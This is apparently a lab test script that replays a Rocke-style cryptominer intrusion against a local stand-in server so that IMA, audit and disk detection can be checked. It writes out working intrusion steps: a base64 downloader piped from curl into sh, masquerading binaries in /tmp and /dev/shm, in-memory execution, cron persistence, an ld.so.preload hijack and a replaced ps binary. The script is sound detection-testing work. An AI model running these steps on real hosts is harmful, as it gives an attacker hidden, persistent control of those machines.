# shellcheck shell=bash
# The intrusion of scenarios/rocke.sh, also used by scenarios/live.sh; what happens is told there.

# shellcheck source=tests/lab/guest/lib.sh
source /run/lab/guest/lib.sh

server=http://127.0.0.1:8080

serve_payloads() {
    mkdir -p /srv/c2
    cp "$programs"/{java,kthreadd} /srv/c2/
    base64 >/srv/c2/a <<SCRIPT
wget -q -O /tmp/java $server/java
chmod 755 /tmp/java
/usr/local/sbin/backup-helper /tmp/java
SCRIPT
    busybox httpd -p 127.0.0.1:8080 -h /srv/c2
}

ordinary_work() {
    as_deploy 'ls / >/dev/null; ps aux >/dev/null; id >/dev/null; wget -q -O - '$server'/none || true
        echo aGVsbG8K | base64 -d >/dev/null; crontab -l 2>/dev/null || true; touch note; chmod 600 note'
    as_web "curl -s $server/none >/dev/null; /usr/local/sbin/backup-helper /usr/bin/id"
    install -m 644 /dev/null /run/installed
    [[ -e /run/crond.pid ]] || cron # only now, so that the users' programs are first run by the users
    wait_for /var/log/report
}

# intrude: every step says what is true of it, for the step `after`.
intrude() {
    as_web "curl -fsS $server/a | base64 -d | sh"
    fact after /tmp/java "new, in /tmp, masquerading name" 33 0 backup-helper /usr/local/sbin/backup-helper "ima audit disk"

    install_program kworkerds /var/tmp/kworkerds
    /var/tmp/kworkerds
    fact after /var/tmp/kworkerds "new, in /var/tmp, masquerading name" 0 0 bash /usr/bin/bash "ima audit disk"

    install_program kworkerds-shm /dev/shm/kworkerds
    curl -fsS $server/kthreadd | /dev/shm/kworkerds kthreadd
    fact after /dev/shm/kworkerds "new, in /dev/shm, masquerading name" 0 0 bash /usr/bin/bash "ima audit disk"
    from=$programs/kthreadd fact after memfd:kthreadd "in memory only: never had a path" 0 0 kworkerds /dev/shm/kworkerds "ima audit"

    install_program kworkerds-sbin /usr/sbin/kworkerds
    echo '* * * * * root /usr/sbin/kworkerds >/tmp/.tmph' >/etc/cron.d/root
    echo '@daily /usr/sbin/kworkerds' | crontab -
    fact after /etc/cron.d/root "written: key T1053.003" 0 0 bash /usr/bin/bash "audit disk"
    fact after /var/spool/cron/crontabs/root "written: key T1053.003" 0 0 crontab /usr/bin/crontab "audit"
    wait_for /tmp/.tmph
    fact after /usr/sbin/kworkerds "new, started by cron" 0 0 sh /usr/bin/dash "ima audit disk"

    install_program netdns /usr/sbin/netdns
    install_program watchdogs /tmp/watchdogs
    /tmp/watchdogs -w /run/deleted /usr/sbin/netdns &
    sleep 1
    fact after /tmp/watchdogs "new, in /tmp, deleted while it ran" 0 0 bash /usr/bin/bash "ima audit"
    rm /tmp/watchdogs
    : >/run/deleted
    wait $!
    fact after /usr/sbin/netdns "new, started by a deleted program" 0 0 watchdogs "/tmp/watchdogs (deleted)" "ima audit disk"

    install_program libntp.so /usr/local/lib/libntp.so 644
    echo /usr/local/lib/libntp.so >/etc/ld.so.preload
    id >/dev/null
    fact after /usr/local/lib/libntp.so "new, loaded through ld.so.preload" 0 0 id /usr/bin/id "ima audit disk"
    fact after /etc/ld.so.preload "written: key T1574.006" 0 0 bash /usr/bin/bash "audit disk"

    install_program ps /usr/bin/ps
    ps >/dev/null
    fact after /usr/bin/ps "replaced: another digest than before" 0 0 bash /usr/bin/bash "ima audit disk"

    install_program tool "/opt/app/my tool"
    as_deploy '"/opt/app/my tool"'
    fact after "/opt/app/my tool" "new, a space in its name; the list shows my_tool" 1000 1000 bash /usr/bin/bash "ima audit disk"
}
